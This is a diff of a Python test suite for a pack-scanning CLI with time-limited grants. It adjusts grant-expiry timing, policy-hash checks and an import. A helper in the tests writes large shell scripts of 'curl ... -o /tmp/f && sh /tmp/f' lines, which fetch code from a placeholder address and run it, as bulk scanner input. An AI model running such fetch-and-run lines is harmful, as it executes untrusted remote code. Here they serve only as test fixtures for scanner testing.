@@ -3,6 +3,7 @@
 
 usage: tests/cli/pack.py TOCSIN ENTITLE [NAME...]   (from the root of the source)"""
 
+import hashlib
 import json
 import os
 import pathlib
@@ -51,6 +52,8 @@ def big(person):
     """Evidence that takes a while, whatever the machine."""
     line = "curl -s http://198.51.100.%d/%d -o /tmp/f%d && sh /tmp/f%d | sed 's/a/b/' > /var/log/x%d\n"
     folder = person.folder / "big"
+    if folder.exists():
+        return folder
     folder.mkdir()
     for number in range(40):
         text = "#!/bin/sh\n" + "".join(line % (i % 250, i, i, i, number) for i in range(20000))
@@ -120,12 +123,13 @@ def under_a_grant_it_finds_what_it_looks_for_and_the_report_names_it(person):
     report = json.loads(done.out)
     (pack,) = report["tocsin"]["packs"]
     assert (pack["name"], pack["version"], pack["rules"]) == ("sample-pack", "1.0", 2)
-    import hashlib
     assert pack["sha256"] == hashlib.sha256(SAMPLE.read_bytes()).hexdigest()
     assert pack["grant"] == "00112233445566778899aabbccddeeff"
     assert [finding["rule"] for finding in report["findings"]] == ["capability/sample-pack/sample-drop"]
     allowed, ended = person.entries()[-2:]
     assert (allowed["event"], ended["event"]) == ("allowed", "done"), (allowed, ended)
+    rules = hashlib.sha256((ROOT / "content/grant.datalog").read_bytes()).hexdigest()
+    assert allowed["policy_sha256"] == ended["policy_sha256"] == rules, (allowed, ended)
     assert allowed["operation"] == ended["operation"] == "model.pack" and ended["decision"] == allowed["sequence"]
     assert ended["object_sha256"] == hashlib.sha256(done.out.encode()).hexdigest()
     for form, words in (("text", "by pack sample-pack"), ("markdown", "by pack"), ("html", "by pack")):
@@ -247,11 +251,11 @@ def a_revocation_cuts_what_runs_within_a_second(person):
 
 @case
 def the_end_of_a_grant_cuts_what_runs(person):
-    ready(person, 4)
-    began = time.monotonic()
-    said, _ = cut(person, lambda: None)
+    big(person)  # which takes its time, and the grant's is short
+    ready(person, 12)
+    said, took = cut(person, lambda: None)
     assert (said["reason"], said["rule"]) == ("expired", "grant-has-not-ended"), said
-    assert time.monotonic() - began < 20
+    assert took < 13, took
 
 
 @case
